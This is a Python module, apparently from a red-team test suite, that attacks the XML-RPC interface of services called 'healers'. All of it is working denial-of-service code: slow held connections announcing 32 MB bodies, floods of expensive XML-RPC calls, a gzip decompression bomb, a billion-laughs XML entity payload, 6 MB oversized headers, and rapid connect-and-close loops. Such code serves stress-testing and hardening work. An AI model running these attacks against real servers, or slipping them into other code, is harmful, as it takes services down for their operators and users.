"""Attacks on the XML-RPC interface of the healers: much, long, slow, and what grows."""
import gzip
import http.client
import itertools
import socket
import time
import xmlrpc.client
from contextlib import suppress
from typing import Callable, Tuple

from redteam_attacks.target import ERRORS, HEALERS, LENGTH, Target, Try, flood, post


def announced(target: Target, end: float) -> int:
    """Announce 32 MB each, and send them slowly."""
    return _held(target.address, end, b"POST /RPC2 HTTP/1.1\r\nContent-Length: 32000000\r\n\r\n")


def slow(target: Target, end: float) -> int:
    """Begin bodies and headers that never end, 300 at a time."""
    begun = b"POST /RPC2 HTTP/1.1\r\nContent-Length: 60000\r\n\r\n<?xml"
    half = (end + time.monotonic()) / 2.0
    return _held(target.address, half, begun) + _held(target.data, end, LENGTH.pack(200_000) + b"a")


def _held(at: Callable[[str], Tuple[str, int]], end: float, begin: bytes) -> int:
    places = itertools.cycle([at(each) for each in HEALERS])
    count, opened = 0, []
    while not count or time.monotonic() < end:
        with suppress(OSError):
            opened.append(socket.create_connection(next(places), 1.0))
            opened[-1].sendall(begin + bytes(10_000))
            count += 1
        if len(opened) > 300:
            opened.pop(0).close()
        time.sleep(0.002)
    return count


def calls(target: Target, end: float) -> int:
    """Make calls of 60 kB that cost much to be read, on connections that stay."""
    body = xmlrpc.client.dumps((["a", [1] * 2200],), "getPid").encode()
    return flood(lambda node: _caller(target.address(node), body), end, target)


def _caller(at: Tuple[str, int], body: bytes) -> Try:
    connection = http.client.HTTPConnection(*at, timeout=5.0)

    def attempt() -> None:
        try:
            connection.request("POST", "/RPC2", body)
            connection.getresponse().read()
        except ERRORS:
            connection.close()
            raise

    return attempt


def bombs(target: Target, end: float) -> int:
    """Send what grows when it is read: gzip, entities, heads of 6 MB."""
    packed = gzip.compress(xmlrpc.client.dumps(("x" * 19_000_000,), "getPid").encode())
    entities = "".join(f'<!ENTITY e{k} "{f"&e{k - 1};" * 10}">' for k in range(1, 9))
    lol = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "lol">{entities}]><methodCall>&e8;'
    head = [f"X-{k}: {'x' * 60_000}" for k in range(99)]

    def attempts(node: str) -> Try:
        at = target.address(node)
        turns = itertools.cycle(
            [
                lambda: post(at, packed, "Content-Encoding: gzip"),
                lambda: post(at, lol.encode()),
                lambda: post(at, b"", *head),
            ]
        )
        return lambda: next(turns)()

    return flood(attempts, end, target)


def connections(target: Target, end: float) -> int:
    """Connect and leave, as often as can be, to what calls and to what gives topics."""

    def attempts(node: str) -> Try:
        turns = itertools.cycle([target.address(node), target.data(node)])
        return lambda: socket.create_connection(next(turns), 1.0).close()

    return flood(attempts, end, target)
